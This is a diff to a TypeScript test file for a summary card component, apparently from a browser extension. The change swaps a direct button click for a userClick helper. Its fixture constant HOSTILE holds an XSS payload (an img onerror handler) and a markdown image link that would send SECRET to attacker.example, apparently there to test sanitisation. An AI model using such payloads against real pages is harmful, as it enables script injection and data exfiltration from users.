@@ -7,6 +7,7 @@ import {
   type SummaryCardState,
 } from '../../extension/components/SummaryCardState';
 import type { ActionItem, ThreadSummary } from '../../shared/schemas';
+import { userClick } from './user-events';
 
 const HOSTILE = '<img src=x onerror="window.__pwned=1"> ![x](https://attacker.example/?q=SECRET)';
 
@@ -75,7 +76,7 @@ describe('summary card view', () => {
     const mount = render({ summary: summary(), pending: false }, (item) => clicked.push(item.text));
     const button = mount.querySelector<HTMLButtonElement>('button.add-task');
     expect(button?.getAttribute('aria-label')).toMatch(/^Add task: Send /);
-    button?.click();
+    userClick(button);
     expect(clicked).toHaveLength(1);
     const text = summary().actionItems[0]?.text ?? '';
     const done = render({ summary: summary(), pending: false, added: new Set([text]) });
